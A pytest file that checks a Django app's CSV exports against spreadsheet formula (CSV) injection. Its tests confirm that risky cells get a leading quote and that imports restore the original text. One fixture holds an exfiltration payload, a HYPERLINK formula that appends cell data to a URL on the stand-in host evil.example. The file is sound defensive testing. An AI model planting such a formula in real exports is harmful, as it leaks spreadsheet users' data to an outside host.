"""No CSV Frontline writes carries a spreadsheet formula (OWASP, CSV injection): every
writer puts a quote before text a spreadsheet would run, and imports take it off again."""

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from rest_framework.test import APIClient

from apps.exports.builder import run_job
from apps.exports.models import ExportJob
from apps.territory.spreadsheet import TRIGGERS, original_cell, safe_cell
from apps.users.models import User
from apps.users.roles import EDITORS, REVIEWERS
from tests.factories import ChangeFactory, PlaceFactory, SourceFactory, TheaterFactory

SUMMARY = '=HYPERLINK("http://evil.example/?d="&A2,"Click for sources")'
ALIAS = "=1+1"
TITLE = "@SUM(A1:A9)"
PLACE = "+Kobani"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (SUMMARY, "'" + SUMMARY),
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("-3.5", "-3.5"),
        ("+1", "+1"),
        ("-1e3", "-1e3"),
        ("plain", "plain"),
        ("", ""),
        ("it's =fine", "it's =fine"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_cells_that_would_run_get_a_quote(text, written):
    assert safe_cell(text) == written
    assert original_cell(written) == text


def test_numbers_and_empty_values_pass_unchanged():
    assert safe_cell(-3.5) == -3.5 and safe_cell(None) is None and safe_cell(7) == 7


@given(st.text())
def test_reading_what_was_written_gives_back_the_text(text):
    written = safe_cell(text)
    assert original_cell(written) == text
    if written.startswith(TRIGGERS):
        float(written)  # only a plain number may start so


@pytest.fixture
def risky(db):
    theater = TheaterFactory(slug="risky")
    place = PlaceFactory(theater=theater, name=PLACE, aliases=[ALIAS, "plain"])
    change = ChangeFactory(place=place, summary=SUMMARY, sources=[SourceFactory(title=TITLE)])
    return theater, place, change


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str, *expected: str) -> None:
    found = cells(text)
    for value in expected:
        assert value not in found, value  # never bare
        assert safe_cell(value) in found, value  # but quoted
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in found), found


def test_the_api_s_changes_csv(risky):
    response = APIClient(HTTP_HOST="127.0.0.1").get("/api/v1/changes/?format=csv")
    assert response.status_code == 200 and response.streaming
    assert_no_formula(b"".join(response.streaming_content).decode(), SUMMARY)


def test_the_api_s_control_csv(risky):
    theater, _, _ = risky
    response = APIClient(HTTP_HOST="127.0.0.1").get(
        f"/api/v1/control/?format=csv&date=2016-01-01&theater={theater.pk}"
    )
    assert response.status_code == 200
    assert_no_formula(response.content.decode(), PLACE)


@pytest.mark.parametrize(
    ("dates", "expected"), [({}, SUMMARY), ({"date": date(2016, 1, 1)}, PLACE)]
)
def test_export_jobs_csv_files(risky, settings, tmp_path, dates, expected):
    settings.EXPORT_ROOT = str(tmp_path)
    job = ExportJob.objects.create(theater=risky[0], format="csv", **dates)
    run_job(job)
    job.refresh_from_db()
    assert job.status == "done", job.error
    assert_no_formula((Path(tmp_path) / job.file).read_text(), expected)


def staff_client(role: str) -> Client:
    user = User.objects.create_user(f"{role}-csv", password="pw-long-enough-1", is_staff=True)
    user.groups.add(Group.objects.get(name=role))
    client = Client(HTTP_HOST="127.0.0.1")
    client.force_login(user)
    return client


def test_the_admin_s_csv_action(risky):
    _, _, change = risky
    response = staff_client(EDITORS).post(
        "/admin/territory/controlchange/", {"action": "export_csv", "_selected_action": [change.pk]}
    )
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode(), SUMMARY)


def test_the_theater_zip(risky):
    theater, _, _ = risky
    response = staff_client(REVIEWERS).post(
        "/admin/territory/theater/", {"action": "export_record", "_selected_action": [theater.pk]}
    )
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert_no_formula(archive.read("changes.csv").decode(), SUMMARY)
    assert_no_formula(archive.read("sources.csv").decode(), TITLE)
    places = archive.read("places.csv").decode()
    assert_no_formula(places, PLACE, f"{ALIAS}|plain")
